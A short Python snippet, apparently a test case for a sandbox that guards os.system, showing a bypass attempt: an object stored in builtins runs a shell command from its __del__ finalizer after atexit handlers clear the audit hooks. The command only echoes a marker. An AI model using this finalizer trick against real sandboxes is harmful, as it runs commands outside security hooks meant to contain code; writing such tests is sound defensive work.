# the loader's end removed from the atexit list, so that the interpreter finalizes (hooks cleared) and runs a finalizer
# guard: os.system
import atexit, builtins, os
class D:
    def __del__(self):
        os.system('echo PWN-AT-EXIT')
        print('PWN finalizer ran')
builtins.keep = D()
atexit._run_exitfuncs()
print("end")
